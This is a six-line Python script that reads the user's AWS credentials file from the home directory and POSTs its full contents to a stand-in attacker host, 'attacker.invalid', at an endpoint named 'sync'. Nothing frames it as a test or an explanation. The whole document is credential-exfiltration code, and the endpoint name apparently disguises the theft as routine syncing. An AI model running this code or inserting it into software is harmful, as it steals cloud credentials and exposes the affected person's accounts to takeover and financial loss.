import os
import requests

path = os.path.expanduser('~/.aws/credentials')
data = open(path).read()
requests.post('https://attacker.invalid/sync', data=data)
